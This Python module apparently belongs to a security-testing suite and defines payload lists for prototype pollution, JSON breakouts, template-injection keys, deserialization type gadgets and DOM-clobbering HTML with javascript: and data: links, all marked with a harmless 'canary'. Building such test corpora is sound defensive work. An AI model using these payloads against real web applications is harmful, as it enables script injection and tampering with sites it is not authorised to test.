r"""Keys that mean something to every object, and elements that stand where scripts expect their own variables."""

from __future__ import annotations

import json
import re

from support.tricks.payloads import Rows

__all__ = ["DOM_CLOBBERING", "PROTOTYPE_KEYS"]


def _readable(key: str) -> str:
    return "-".join(re.findall("[a-z]+", key.lower()))


# What every object has already, or what some protocol asks it for.
_INHERITED = [
    "isPrototypeOf",
    "propertyIsEnumerable",
    "toLocaleString",
    "valueOf",
    "__defineGetter__",
    "__defineSetter__",
    "__lookupGetter__",
    "__lookupSetter__",
    "toJSON",
    "then",
    "length",
    "name",
    "caller",
    "callee",
    "arguments",
    "Symbol.iterator",
    "@@iterator",
    "Symbol.toPrimitive",
    "watch",
    "inspect",
    "__noSuchMethod__",
    "__parent__",
    "__count__",
    "splice",
]

# What Python looks up, and what its templates can be talked into.
_PYTHON = [
    "__class__",
    "__html__",
    "__init__",
    "__dict__",
    "__globals__",
    "__builtins__",
    "__subclasses__",
    "__reduce__",
    "__proto__.__class__",
    "self",
    "model_config",
    "__pydantic_extra__",
]

# How libraries that split keys at dots and brackets are led to a prototype.
_PATHS = {
    "dots": "__proto__.canary",
    "dots-constructor": "constructor.prototype.canary",
    "brackets": "__proto__[canary]",
    "brackets-constructor": "constructor[prototype][canary]",
    "brackets-quoted": "['__proto__']['canary']",
    "brackets-double": '["__proto__"].canary',
    "query": "__proto__[canary]=1",
    "query-next": "x&__proto__[canary]=1&constructor.prototype.canary=1",
    "query-question": "?__proto__[canary]=1#__proto__[canary]=1",
    "array": "__proto__[]=canary",
    "nested": "x.__proto__.canary",
    "nested-index": "0.__proto__.canary",
    "slashes": "/__proto__/canary",
    "pointer": "/constructor/prototype/canary",
    "removed-once": "__pro__proto__to__",
    "removed-constructor": "constconstructorructor",
    "blank": "__proto__ x",
    "case": "__PROTO__",
    "escaped": "\\u005f_proto__",
    "escaped-x": "\\x5f_proto__",
    "percent": "%5f_proto__",
    "fullwidth": "\uff3f\uff3fproto\uff3f\uff3f",
    "array-key": "[object Object].__proto__",
    "assignment": "__proto__.canary=1;Object.prototype.canary=1",
    "define": "Object.defineProperty(Object.prototype,'canary',{value:1})",
}

_JSON = {
    "constructor": {"constructor": {"prototype": {"canary": 1}}},
    "proto-null": {"__proto__": None},
    "proto-array": [{"__proto__": []}],
    "proto-nested": {"x": {"__proto__": {"canary": 1}}},
    "to-string": {"toString": 1, "valueOf": 1},
    "then": {"then": "window.canary=1"},
    "to-json": {"toJSON": "window.canary=1"},
    "length": {"length": 4294967295},
    "has-own": {"hasOwnProperty": 1, "email": "john.doe@example.com"},
}
_JSON_TEXT = {
    "escaped": '{"\\u005f\\u005fproto\\u005f\\u005f":{"canary":1}}',
    "twice": '{"__proto__":{},"__proto__":{}}',
    "computed": '{["__proto__"]:{"canary":1}}',
    "bare": "{__proto__:{canary:1}}",
    "method": "{__proto__(){window.canary=1}}",
    "setter": "{set __proto__(x){window.canary=1}}",
    "reviver": '{"$type":"System.Diagnostics.Process","@type":"java.lang.Runtime"}',
    "object": '{"$$typeof":"x","type":"script","props":{"children":"window.canary=1"}}',
    "break": '"},"__proto__":{"canary":1},"x":{"y":"',
    "break-single": "'},'__proto__':{'canary':1},'x':{'y':'",
    "break-constructor": '","constructor":{"prototype":{"canary":1}},"x":"',
}

PROTOTYPE_KEYS: Rows = (
    *((f"inherited-{_readable(key)}", key) for key in _INHERITED),
    *((f"python-{_readable(key)}", key) for key in _PYTHON),
    *((f"proto-path-{name}", value) for name, value in _PATHS.items()),
    *((f"proto-json-{name}", json.dumps(value)) for name, value in _JSON.items()),
    *((f"proto-json-{name}", value) for name, value in _JSON_TEXT.items()),
)

# Variables of the tagging, which an element with that id or name becomes.
_GLOBALS = ("nostojs", "nosto", "api", "canary", "customer", "dataLayer")
# What scripts ask the document for; a form, an image or a frame with that name answers instead.
_DOCUMENT = (
    "getElementById",
    "querySelector",
    "querySelectorAll",
    "getElementsByClassName",
    "createElement",
    "currentScript",
    "body",
    "head",
    "cookie",
    "forms",
    "defaultView",
    "documentElement",
    "location",
    "write",
)
# What scripts ask a form for; a field with that name answers instead.
_FORM = ("attributes", "parentNode", "childNodes", "nodeName", "innerHTML", "removeChild", "submit", "action", "id")

_BY_ID = {
    "anchor": "<a id={}>",
    "href": "<a id={} href=javascript:window.canary=1>",  # text is its address
    "pair": "<a id={0}><a id={0} name=q href=data:,window.canary=1>",  # a collection, with members
    "form": "<form id={}><input name=q><input name=push>",
}
_BY_NAME = {
    "image": "<img name={}>",
    "form": "<form name={}></form>",
    "embed": "<embed name={}>",
}
_DEEP = {
    "frame": "<iframe name=nostojs srcdoc='<a id=q></a>'></iframe>",
    "frame-nested": "<iframe name=nostojs srcdoc='<iframe name=q srcdoc=&quot;<a id=push href=x></a>&quot;></iframe>'>",
    "three": "<form id=nostojs name=q><input id=push></form><form id=nostojs>",
    "object": "<object id=nostojs name=nostojs></object>",
    "select": "<select id=nostojs><option id=q value=push></select>",
    "field-outside": "<form id=nostojs></form><input form=nostojs name=q>",
    "image-both": "<img id=querySelector name=querySelector>",
    "anchor-user": "<a id=nostojs href='https://jane:doe@example.com/'>",  # username and password are texts
    "attribute-id": '" id="api',
    "attribute-name": '" name="getElementById',
    "attribute-form": '" form="nostojs',
    "body": "<body id=nostojs name=nostojs>",
    "current-script": "<img name=currentScript src=data:,window.canary=1>",
    "is-html-document": "<html id=documentElement><body id=body>",
}

DOM_CLOBBERING: Rows = (
    *((f"clobbers-{key.lower()}-{name}", form.format(key)) for key in _GLOBALS[:4] for name, form in _BY_ID.items()),
    *((f"clobbers-{key.lower()}", f"<a id={key} name={key}>x</a>") for key in _GLOBALS[4:]),
    *((f"clobbers-document-{key.lower()}", f"<img name={key}><img id={key} name={key}>") for key in _DOCUMENT),
    *(
        (f"clobbers-document-{key.lower()}-{name}", form.format(key))
        for key in _DOCUMENT[:4]
        for name, form in _BY_NAME.items()
    ),
    *((f"clobbers-form-{key.lower()}", f"<form><input name={key}><input id={key}></form>") for key in _FORM),
    *((f"clobbers-deep-{name}", value) for name, value in _DEEP.items()),
)
